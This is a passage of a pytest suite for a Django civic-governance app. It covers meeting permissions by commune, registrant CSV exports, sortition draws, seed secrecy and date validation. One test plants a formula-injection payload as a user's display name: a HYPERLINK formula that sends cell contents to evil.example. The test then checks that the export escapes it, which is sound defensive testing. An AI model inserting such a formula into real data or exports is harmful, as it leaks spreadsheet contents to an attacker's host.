    assert "Awa;habitante@example.org;Marseille;" in csv_text
    log = AuditLog.objects.get(action="governance.registrants_exported")
    assert log.actor == personas["commune_agent"] and log.data == {"count": 1, "waiting": 0}


@pytest.fixture
def other_commune(territories, marseille):
    from renouveau.territories.models import Commune

    return Commune.objects.exclude(pk=marseille.pk).order_by("name").first()


def test_commune_agent_runs_only_the_meetings_of_their_communes(
    client, personas, reference, place, other_commune
):
    """A Marseille agent may not edit, cancel, document or read the registrants (e-mails) of a
    meeting held in another commune that they did not announce."""
    agent = personas["commune_agent"]
    elsewhere = Place.objects.create(
        name="Antenne", kind="project_house_branch", commune=other_commune, address="2 rue B"
    )
    foreign = make_meeting(reference[CONVENTION], capacity=10, place=elsewhere, title="Ailleurs")
    by_address = make_meeting(reference[CONVENTION], capacity=10, title="Salle du conseil")
    services.registration_create(user=personas["resident"], meeting=foreign)
    client.force_login(agent)
    for meeting in (foreign, by_address):
        for name in (
            "meeting_edit",
            "meeting_cancel",
            "meeting_minutes",
            "meeting_document",
            "meeting_registrants",
        ):
            url = reverse(f"governance:{name}", args=[meeting.pk])
            assert client.get(url).status_code == 403, name
        registrants = reverse("governance:meeting_registrants", args=[meeting.pk])
        assert client.get(registrants, {"format": "csv"}).status_code == 403
        cancel = reverse("governance:meeting_cancel", args=[meeting.pk])
        assert client.post(cancel, {"reason": "Je ne suis pas l'organisateur"}).status_code == 403
        page = client.get(reverse("governance:meeting", args=[meeting.pk])).content.decode()
        assert "Gestion (agents)" not in page
    foreign.refresh_from_db()
    assert not foreign.is_cancelled
    assert not AuditLog.objects.filter(action="governance.registrants_exported").exists()
    assert client.get(reverse("governance:meeting_edit", args=[999999])).status_code == 404
    # In one of their communes, or announced by them: theirs to run.
    local = make_meeting(reference[CONVENTION], place=place)
    own = make_meeting(reference[CONVENTION], title="La mienne", created_by=agent)
    for meeting in (local, own):
        assert client.get(reverse("governance:meeting_edit", args=[meeting.pk])).status_code == 200
        page = client.get(reverse("governance:meeting", args=[meeting.pk])).content.decode()
        assert "Gestion (agents)" in page
    # Announcing: only the places of their communes are offered.
    create = reverse("governance:meeting_create")
    form = client.get(create).content.decode()
    assert "Maison du Projet" in form and "Antenne" not in form
    response = client.post(
        create,
        {
            "title": "Réunion",
            "starts_at": "2030-05-01T18:00",
            "ends_at": "2030-05-01T20:00",
            "place": elsewhere.pk,
            "agenda": "x",
            "is_public": "on",
        },
    )
    assert response.status_code == 400
    # The Metropolis runs every meeting.
    client.force_login(personas["metropolis_agent"])
    assert client.get(reverse("governance:meeting_edit", args=[foreign.pk])).status_code == 200
    csv_text = client.get(
        reverse("governance:meeting_registrants", args=[foreign.pk]), {"format": "csv"}
    ).content.decode()
    assert personas["resident"].email in csv_text


def test_registrants_csv_does_not_run_formulas(client, personas, reference, place):
    resident = personas["resident"]
    resident.display_name = '=HYPERLINK("https://evil.example/?"&A1,"Awa")'
    resident.save()
    meeting = make_meeting(reference[CONVENTION], capacity=10, place=place)
    services.registration_create(user=resident, meeting=meeting)
    client.force_login(personas["metropolis_agent"])
    csv_text = client.get(
        reverse("governance:meeting_registrants", args=[meeting.pk]), {"format": "csv"}
    ).content.decode()
    row = csv_text.splitlines()[1]
    assert row.startswith("\"'=HYPERLINK(") and ";habitante@example.org;Marseille;" in row
    indicator = ComparisonIndicator.objects.create(
        code="i", name="@SUM(1+1)", unit="%", definition="d", source="s", year=2020
    )
    ComparisonValue.objects.create(indicator=indicator, metropolis="-2+3", value=Decimal("-1.5"))
    export = client.get(reverse("governance:comparison_export", args=["csv"])).content.decode()
    assert "i;'@SUM(1+1);%;2020;s;'-2+3;-1.50;0" in export


def test_draw_cannot_close_in_the_past(client, personas, reference):
    client.force_login(personas["metropolis_agent"])
    yesterday = timezone.localdate() - datetime.timedelta(days=1)
    data = {
        "body": reference[CONVENTION].pk,
        "title": "Tirage",
        "description": "Présentation",
        "seats": "2",
        "closes_on": yesterday.isoformat(),
    }
    response = client.post(reverse("governance:draw_create"), data)
    assert response.status_code == 400
    assert "ne peut pas être déjà passée" in response.content.decode()
    assert not Draw.objects.exists()
    data["closes_on"] = timezone.localdate().isoformat()
    assert client.post(reverse("governance:draw_create"), data).status_code == 302


def test_registrations_are_not_dropped_silently_by_an_edit(client, personas, reference, place):
    meeting = make_meeting(reference[CONVENTION], capacity=10, place=place)
    services.registration_create(user=personas["resident"], meeting=meeting)
    client.force_login(personas["metropolis_agent"])
    data = {
        "body": reference[CONVENTION].pk,
        "title": meeting.title,
        "starts_at": timezone.localtime(meeting.starts_at).strftime("%Y-%m-%dT%H:%M"),
        "ends_at": timezone.localtime(meeting.ends_at).strftime("%Y-%m-%dT%H:%M"),
        "place": place.pk,
        "agenda": meeting.agenda,
        "is_public": "",
        "capacity": "",
    }
    response = client.post(reverse("governance:meeting_edit", args=[meeting.pk]), data)
    assert response.status_code == 400
    assert "la réunion garde ses inscriptions" in response.content.decode()
    meeting.refresh_from_db()
    assert meeting.is_public and meeting.capacity == 10 and meeting.registrations.count() == 1


def test_no_minutes_for_a_cancelled_meeting(client, personas, reference):
    meeting = make_meeting(reference[CONVENTION], days=-2)
    services.meeting_cancel(actor=personas["metropolis_agent"], meeting=meeting, reason="Grève")
    client.force_login(personas["metropolis_agent"])
    response = client.post(
        reverse("governance:meeting_minutes", args=[meeting.pk]), {"minutes": "Décisions."}
    )
    assert response.status_code == 400
    assert "annulée : elle n&#x27;a pas de compte rendu" in response.content.decode()
    meeting.refresh_from_db()
    assert meeting.minutes == "" and meeting.minutes_published_at is None


def test_back_office_cannot_rewrite_published_quotas_or_cancel_silently(rf, personas, open_draw):
    from django.contrib import admin as django_admin

    request = rf.get("/")
    request.user = personas["administrator"]
    draw_admin = django_admin.site._registry[Draw]
    assert {"seats", "quotas"} <= set(draw_admin.get_readonly_fields(request, open_draw))
    assert "quotas" not in draw_admin.get_readonly_fields(request, None)
    open_draw.status = Draw.Status.DRAWN
    assert "closes_on" in draw_admin.get_readonly_fields(request, open_draw)
    meeting_admin = django_admin.site._registry[Meeting]
    assert "status" in meeting_admin.get_readonly_fields(request, None)


def test_value_entry_refused_with_the_403_page(client, personas, reference):
    indicator = ComparisonIndicator.objects.create(
        code="i", name="Indicateur", unit="%", definition="d", source="s", year=2020
    )
    client.force_login(personas["resident"])
    url = reverse("governance:indicator", args=[indicator.code])
    response = client.post(url, {"metropolis": "Lyon", "value": "1"})
    assert response.status_code == 403
    assert "<h1" in response.content.decode()  # the site's 403 page, not an empty body
    assert not ComparisonValue.objects.exists()


def test_quota_field_error_is_tied_to_its_field(client, personas, reference):
    client.force_login(personas["metropolis_agent"])
    data = {
        "body": reference[CONVENTION].pk,
        "title": "Tirage",
        "description": "Présentation",
        "seats": "2",
        "closes_on": timezone.localdate().isoformat(),
        "q_gender_woman": "-1",
    }
    response = client.post(reverse("governance:draw_create"), data)
    assert response.status_code == 400
    content = response.content.decode()
    # Django points the input's aria-describedby at "<id>_error": that element must exist.
    assert 'aria-describedby="id_q_gender_woman_error"' in content
    assert '<ul class="errorlist" id="id_q_gender_woman_error">' in content


def test_no_unregistering_once_the_meeting_has_begun(client, personas, reference):
    resident = personas["resident"]
    meeting = make_meeting(reference[CONVENTION], capacity=10)
    services.registration_create(user=resident, meeting=meeting)
    Meeting.objects.filter(pk=meeting.pk).update(
        starts_at=timezone.now() - datetime.timedelta(hours=1)
    )
    client.force_login(resident)
    response = client.post(reverse("governance:meeting_unregister", args=[meeting.pk]), follow=True)
    assert "La réunion a commencé" in response.content.decode()
    assert Registration.objects.filter(meeting=meeting, user=resident).exists()
    assert not AuditLog.objects.filter(action="governance.unregistered").exists()


def test_a_meeting_over_several_days_shows_its_end_date(client, reference):
    start = timezone.make_aware(datetime.datetime(2030, 5, 3, 9, 0))
    meeting = Meeting.objects.create(
        body=reference[CONVENTION],
        title="Session de la convention",
        starts_at=start,
        ends_at=start + datetime.timedelta(days=1, hours=8),
        location="Marseille",
        agenda="Deux jours",
    )
    page = client.get(reverse("governance:meeting", args=[meeting.pk])).content.decode()
    assert "vendredi 3 mai 2030, 09:00" in page and "samedi 4 mai 2030, 17:00" in page


def test_erasure_after_the_draw_stores_the_site_language(personas, open_draw, marseille):
    from django.utils import translation

    from renouveau.accounts.signals import user_erased

    resident = personas["resident"]
    candidate = services.candidate_register(
        user=resident,
        draw=open_draw,
        data={
            "public_name": "Awa B.",
            "commune": marseille,
            "age_band": "30-44",
            "gender": "woman",
            "consent": True,
        },
    )
    Draw.objects.filter(pk=open_draw.pk).update(status=Draw.Status.DRAWN)
    with translation.override("en"):  # the erasure asked from the English site
        user_erased.send(sender=None, user=resident)
    candidate.refresh_from_db()
    assert candidate.user is None and candidate.public_name == "Compte supprimé"


def test_the_seed_stays_secret_until_the_draw(client, admin_client, rf, personas, open_draw):
    """Fingerprint published as soon as the draw is prepared; the seed appears nowhere (public
    page, published data, run form, back office) before the draw, and cannot be set."""
    from django.contrib import admin as django_admin

    from renouveau.governance.forms import DrawRunForm

    seed = open_draw.seed
    fingerprint = hashlib.sha256(seed.encode()).hexdigest()
    assert open_draw.seed_fingerprint == fingerprint and open_draw.published_seed == ""
    page = client.get(reverse("governance:draw", args=[open_draw.pk])).content.decode()
    assert fingerprint in page and seed not in page
    assert "Empreinte de la graine" in page
    assert client.get(reverse("governance:draw_data", args=[open_draw.pk])).status_code == 404
    listing = client.get(reverse("governance:draws")).content.decode()
    assert seed not in listing
    assert "seed" not in DrawRunForm(early=True).fields
    # Back office: read-only, fingerprint only.
    request = rf.get("/")
    request.user = personas["administrator"]
    draw_admin = django_admin.site._registry[Draw]
    readonly = draw_admin.get_readonly_fields(request, open_draw)
    assert "seed" not in readonly and "seed" not in draw_admin.get_fields(request, open_draw)
    shown = [str(draw_admin.seed_fingerprint(open_draw)), str(draw_admin.published_seed(open_draw))]
    assert fingerprint in shown and seed not in shown
    change = admin_client.get(reverse("admin:governance_draw_change", args=[open_draw.pk]))
    assert change.status_code == 200
    assert fingerprint in change.content.decode() and seed not in change.content.decode()
    # Each draw gets its own seed.
    other = Draw.objects.create(
        body=open_draw.body, title="Autre", description="x", seats=1, closes_on=open_draw.closes_on
    )
    assert other.seed != seed


def test_a_meeting_dated_year_1_is_refused_not_stored_before_christ(client, personas, reference):
    """Year 1 in Paris is before 0001-01-01 UTC: PostgreSQL stored it as a date BC that no
    page could read back (every list showing the meeting answered 500)."""
    meeting = make_meeting(reference[CONVENTION])
    client.force_login(personas["metropolis_agent"])
    form = {
        "body": meeting.body_id,
        "title": "Réunion",
        "starts_at": "0001-01-01T00:00",
        "ends_at": "0001-01-01T02:00",
        "location": "Salle du conseil",
        "agenda": "Ordre du jour",
        "is_public": "on",
        "capacity": "10",
    }
    for url in (
        reverse("governance:meeting_create"),
        reverse("governance:meeting_edit", args=[meeting.pk]),
    ):
        response = client.post(url, form)
        assert response.status_code == 400
        assert "Indiquez une date entre 2000 et 2100." in response.content.decode()
    assert Meeting.objects.count() == 1
    meeting.refresh_from_db()
    assert meeting.starts_at.year >= 2000
    # The back office refuses it the same way.
    admin = personas["administrator"]
    admin.is_superuser = True
    admin.save()
    client.force_login(admin)
    response = client.post(
        f"/back-office/governance/meeting/{meeting.pk}/change/",
        {
            **form,
            "starts_at_0": "0001-01-01",
            "starts_at_1": "00:00:00",
            "ends_at_0": "0001-01-01",
            "ends_at_1": "02:00:00",
            "minutes": "",
        },
    )
    assert response.status_code == 200
    assert "Indiquez une date entre 2000 et 2100." in response.content.decode()
    meeting.refresh_from_db()
    assert meeting.starts_at.year >= 2000
    assert client.get(reverse("governance:meetings"), {"quand": "passees"}).status_code == 200
